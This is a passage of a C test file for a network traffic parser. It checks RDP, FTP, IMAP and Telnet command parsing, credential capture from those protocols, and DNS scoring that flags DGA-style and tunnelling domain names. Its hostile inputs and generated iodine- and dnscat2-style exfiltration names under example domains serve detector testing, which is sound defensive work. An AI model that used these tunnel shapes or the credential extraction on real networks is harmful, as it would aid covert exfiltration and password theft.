    CHECK(rdp_parse(b.b, b.n) == NET_PROTO_OK);
    CHECK(rdp.protocols == NET_RDP_PROTO_HYBRID_EX && rdp.token.n == 0);
    build_rdp(&b, "Cookie: mstshash=eltons\r\n", false, 0);
    CHECK(rdp_parse(b.b, b.n) == NET_PROTO_OK);
    CHECK(!rdp.has_neg);
    CHECK_SLICE(rdp.cookie, "eltons");
    /* the server's confirm selecting CredSSP */
    CHECK(rdp_parse(U8("\x03\x00\x00\x13\x0e\xd0\x00\x00\x12\x34\x00\x02\x1f\x08\x00\x02\x00\x00\x00"), 19) ==
          NET_PROTO_OK);
    CHECK(rdp.confirm && rdp.neg_type == 2 && rdp.protocols == NET_RDP_PROTO_HYBRID);
    /* hostile */
    build_rdp(&b, "Cookie: mstshash=x\r\n", true, 1);
    b.b[4]++;
    CHECK(rdp_parse(b.b, b.n) == NET_PROTO_MALFORMED);
    CHECK(rdp.why == NET_WHY_RDP_X224);
    build_rdp(&b, "Cookie: mstshash=x\r\n", true, 1);
    b.b[b.n - 6] = 9;
    CHECK(rdp_parse(b.b, b.n) == NET_PROTO_MALFORMED);
    CHECK(rdp.why == NET_WHY_RDP_NEG);
    build_rdp(&b, "Cookie: mstshash=no-end", false, 0);
    CHECK(rdp_parse(b.b, b.n) == NET_PROTO_MALFORMED);
    CHECK(rdp_parse(U8("\x03\x00\x00\x05\x00\xe0\x00\x00\x00\x00\x00"), 11) == NET_PROTO_MALFORMED);
    CHECK(rdp.why == NET_WHY_RDP_TPKT);
    CHECK(rdp_parse(U8("\x03\x00\x00\x0b\x06\xf0\x00\x00\x00\x00\x00"), 11) == NET_PROTO_NOT_MINE);
    CHECK(rdp_parse(U8("\x16\x03\x01"), 3) == NET_PROTO_NOT_MINE);
}

/* ---- FTP, POP3, IMAP, Telnet ---- */

static net_cmd cmd;

static net_proto_rc ftp_parse(const uint8_t *p, size_t n)
{
    return net_ftp_cmd_parse(p, n, &cmd);
}

static void test_ftp_pop3(void)
{
    const char *m = "USER anonymous\r\nPASS guest@example.com\r\nSYST\r\nQUIT\n";
    size_t n = strlen(m), pos = 0;
    const char *verbs[] = {"USER", "PASS", "SYST", "QUIT"}, *args[] = {"anonymous", "guest@example.com", "", ""};
    for (int i = 0; i < 4; i++) {
        CHECK(ftp_parse(U8(m) + pos, n - pos) == NET_PROTO_OK);
        CHECK_SLICE(cmd.verb, verbs[i]);
        CHECK(cmd.arg.n == strlen(args[i]) && memcmp(cmd.arg.p, args[i], cmd.arg.n) == 0);
        pos += cmd.used;
    }
    CHECK_INT(pos, n);
    CHECK_INT(prefixes_partial(ftp_parse, U8(m), 16), 0);
    CHECK(ftp_parse(U8("pass hunter2 with spaces \r\n"), 27) == NET_PROTO_OK);
    CHECK(net_slice_ieq(cmd.verb, "PASS"));
    CHECK_SLICE(cmd.arg, "hunter2 with spaces ");
    CHECK(ftp_parse(U8("230 Login successful.\r\n"), 23) == NET_PROTO_NOT_MINE);
    CHECK(ftp_parse(U8("\x16\x03\x01"), 3) == NET_PROTO_NOT_MINE);
    CHECK(ftp_parse(U8("AUTHENTICATE x\r\n"), 16) == NET_PROTO_NOT_MINE);
    static char longl[NET_CMD_MAX_LINE + 10];
    memset(longl, 'a', sizeof longl);
    memcpy(longl, "PASS ", 5);
    CHECK(ftp_parse(U8(longl), sizeof longl) == NET_PROTO_MALFORMED);
    CHECK(cmd.why == NET_WHY_LINE_TOO_LONG);
}

static net_proto_rc imap_parse(const uint8_t *p, size_t n)
{
    return net_imap_cmd_parse(p, n, &cmd);
}

static void test_imap(void)
{
    const char *m = "a001 LOGIN alice \"pa ss\\\"w0rd\"\r\n";
    CHECK(imap_parse(U8(m), strlen(m)) == NET_PROTO_OK);
    CHECK_SLICE(cmd.tag, "a001");
    CHECK_SLICE(cmd.verb, "LOGIN");
    CHECK_SLICE(cmd.user, "alice");
    CHECK_SLICE(cmd.pass, "pa ss\\\"w0rd");
    CHECK_INT(prefixes_partial(imap_parse, U8(m), strlen(m)), 0);
    CHECK(imap_parse(U8("x CAPABILITY\r\n"), 14) == NET_PROTO_OK);
    CHECK(cmd.user.n == 0);
    CHECK(imap_parse(U8("t login \"unterminated\r\n"), 23) == NET_PROTO_OK);
    CHECK_SLICE(cmd.user, "unterminated");
    CHECK(imap_parse(U8("* OK IMAP4rev1\r\n"), 16) == NET_PROTO_NOT_MINE);
    CHECK(imap_parse(U8(" LOGIN a b\r\n"), 12) == NET_PROTO_NOT_MINE);
}

static void test_telnet(void)
{
    /* option negotiation, a terminal-type subnegotiation, a login with a typo corrected */
    static const uint8_t s[] = {0xff, 0xfd, 0x18, 0xff, 0xfb, 0x01, 0xff, 0xfa, 0x18, 0x00, 'x', 't', 'e', 'r',
                                'm', 0xff, 0xff, 0xff, 0xf0, 'r',  'o',  'o',  't',  '\r', '\n', 'p', 'a', 's',
                                's', 'x',  0x7f, 'w',  'd',  '\r', 0x00, 0xff, 0xf1, 0x1b, 'o', 'k'};
    char out[64];
    net_telnet_text st;
    CHECK(net_telnet_text_extract(s, sizeof s, out, sizeof out, &st) == NET_PROTO_OK);
    CHECK_STR(out, "root\npasswd\nok");
    CHECK_INT(st.options, 2);
    CHECK_INT(st.subneg, 1);
    CHECK_INT(st.len, strlen(out));
    /* cut inside a command or by a small buffer */
    for (size_t k = 0; k < sizeof s; k++) {
        uint8_t *c = malloc(k ? k : 1);
        memcpy(c, s, k);
        net_proto_rc rc = net_telnet_text_extract(c, k, out, sizeof out, &st);
        CHECK(rc == NET_PROTO_OK || rc == NET_PROTO_PARTIAL);
        CHECK(strlen(out) == st.len);
        free(c);
    }
    CHECK(net_telnet_text_extract(s, 7, out, sizeof out, &st) == NET_PROTO_PARTIAL);
    CHECK(net_telnet_text_extract(s, sizeof s, out, 4, &st) == NET_PROTO_PARTIAL);
    CHECK_STR(out, "roo");
}

/* ---- DNS heuristics ---- */

/* A deterministic generator for the random-looking names below. */
static uint32_t lcg_state = 12345;

static unsigned lcg(unsigned mod)
{
    lcg_state = lcg_state * 1103515245u + 12345u;
    return (lcg_state >> 16) % mod;
}

static void rand_label(char *out, size_t n, const char *alphabet)
{
    size_t k = strlen(alphabet);
    for (size_t i = 0; i < n; i++)
        out[i] = alphabet[lcg((unsigned)k)];
    out[n] = '\0';
}

static const char *const benign[] = {
    "www.google.com", "mail.google.com", "www.baidu.com", "x.alicdn.com", "img.alicdn.com", "www.taobao.com",
    "www.qq.com", "www.jd.com", "www.163.com", "www.bilibili.com", "www.zhihu.com", "news.sina.com.cn",
    "www.bbc.co.uk", "e6858.dscx.akamaiedge.net", "d3ag4hukkh62yn.cloudfront.net",
    "r3---sn-oguesnzd.googlevideo.com", "login.microsoftonline.com", "safebrowsing.googleapis.com",
    "4.3.2.1.in-addr.arpa", "1.0.168.192.in-addr.arpa", "_dmarc.example.com", "_sip._tls.example.com",
    "b.4.6.8.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa", "wpad.corp.local",
    "time.windows.com", "ocsp.digicert.com", "api.weixin.qq.com", "www.xiaohongshu.com", "www.pinduoduo.com",
    "open.douyin.com", "oss-cn-hangzhou.aliyuncs.com", "www.wikipedia.org", "github.com", "ntp.ubuntu.com",
};

static void test_dns_names(void)
{
    CHECK_NEAR(net_dns_entropy("aaaa", 4), 0, 1e-9);
    CHECK_NEAR(net_dns_entropy("abcd", 4), 2, 1e-9);
    CHECK_NEAR(net_dns_entropy("", 0), 0, 1e-9);
    static const struct {
        const char *name, *reg;
    } regs[] = {
        {"www.google.com", "google.com"},     {"google.com", "google.com"},     {"com", "com"},
        {"www.bbc.co.uk", "bbc.co.uk"},       {"news.sina.com.cn", "sina.com.cn"}, {"co.uk", "co.uk"},
        {"4.3.2.1.in-addr.arpa", "1.in-addr.arpa"}, {"", ""},
    };
    for (size_t i = 0; i < sizeof regs / sizeof regs[0]; i++)
        CHECK_STR(regs[i].name + net_dns_registered_domain(regs[i].name), regs[i].reg);
    net_dns_name_stats st;
    net_dns_name_measure("abc.defgh.example.com", &st);
    CHECK(st.nlabels == 4 && st.longest == 7 && st.sub_len == 9 && st.sub_longest == 5);
    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
        double d = net_dns_dga_score(benign[i]), t = net_dns_tunnel_score(benign[i]);
        if (d >= NET_DNS_DGA_THRESHOLD || t >= NET_DNS_TUNNEL_THRESHOLD)
            fprintf(stderr, "    benign %s: dga %.2f tunnel %.2f\n", benign[i], d, t);
        CHECK(d < NET_DNS_DGA_THRESHOLD);
        CHECK(t < NET_DNS_TUNNEL_THRESHOLD);
    }
}

static void test_dns_dga(void)
{
    /* shapes of known random-letter families (Conficker, Cryptolocker, Necurs, Ramnit), written
       here, not taken from a feed */
    static const char *const dga[] = {"xjwqkzvbtpqf.com", "kgnqpwlhzrvd.net", "qbvxjrtdwp.info",
                                      "jwxhtfypbqsvlm.biz", "a8f3k2m9q7x1.org", "pxgkfwvnrtlq.ru",
                                      "vtxdkmqzjhbwn.cn", "mkzqxwtplvbr.top"};
    for (size_t i = 0; i < sizeof dga / sizeof dga[0]; i++) {
        double d = net_dns_dga_score(dga[i]);
        if (d < NET_DNS_DGA_THRESHOLD)
            fprintf(stderr, "    dga %s: %.2f\n", dga[i], d);
        CHECK(d >= NET_DNS_DGA_THRESHOLD);
    }
    /* 200 generated names of 12 to 18 random letters: at least 90% must score */
    int hit = 0;
    for (int i = 0; i < 200; i++) {
        char name[64];
        rand_label(name, 12 + lcg(7), "abcdefghijklmnopqrstuvwxyz");
        strcat(name, ".com");
        hit += net_dns_dga_score(name) >= NET_DNS_DGA_THRESHOLD;
    }
    if (hit < 180)
        fprintf(stderr, "    generated DGA names scoring: %d of 200\n", hit);
    CHECK(hit >= 180);
    /* a dictionary-word DGA does not (documented) */
    CHECK(net_dns_dga_score("tablefootballgreen.com") < NET_DNS_DGA_THRESHOLD);
}

static void test_dns_tunnel(void)
{
    char name[256], l1[64], l2[64], l3[64];
    int hit = 0;
    for (int i = 0; i < 100; i++) {
        /* iodine-style: base32 data in long labels under a short tunnel domain */
        rand_label(l1, 57, "abcdefghijklmnopqrstuvwxyz234567");
        rand_label(l2, 57, "abcdefghijklmnopqrstuvwxyz234567");
        snprintf(name, sizeof name, "p%s.%s.t.example.com", l1, l2);
        hit += net_dns_tunnel_score(name) >= NET_DNS_TUNNEL_THRESHOLD;
        /* dnscat2-style: hex labels */
        rand_label(l1, 40, "0123456789abcdef");
        rand_label(l2, 40, "0123456789abcdef");
        rand_label(l3, 22, "0123456789abcdef");
        snprintf(name, sizeof name, "dnscat.%s%s.%s.c2.example.net", l1, l2 + 20, l3);
        hit += net_dns_tunnel_score(name) >= NET_DNS_TUNNEL_THRESHOLD;
        /* base64-ish (lower-cased by DNS) exfiltration */
        rand_label(l1, 48, "abcdefghijklmnopqrstuvwxyz0123456789");
        snprintf(name, sizeof name, "%s.x.exfil.example.org", l1);
        hit += net_dns_tunnel_score(name) >= NET_DNS_TUNNEL_THRESHOLD;
    }
    if (hit < 295)
        fprintf(stderr, "    generated tunnel names scoring: %d of 300\n", hit);
    CHECK(hit >= 295);
    CHECK(net_dns_tunnel_score("example.com") == 0);
}

int main(void)
{
    RUN(test_http_get);
    RUN(test_http_forms);
    RUN(test_http_body_pipeline);
    RUN(test_http_chunked);
    RUN(test_http_hostile);
    RUN(test_http_response);
    RUN(test_dns_response);
    RUN(test_dns_rdata);
    RUN(test_dns_hostile);
    RUN(test_dns_tcp);
    RUN(test_tls_real_hello);
    RUN(test_tls_openssl_hello);
    RUN(test_tls_spec_examples);
    RUN(test_tls_hostile);
    RUN(test_tls_server_hello);
    RUN(test_ssh);
    RUN(test_smb);
    RUN(test_rdp);
    RUN(test_ftp_pop3);
    RUN(test_imap);
    RUN(test_telnet);
    RUN(test_dns_names);
    RUN(test_dns_dga);
    RUN(test_dns_tunnel);
    TEST_MAIN_END();
}
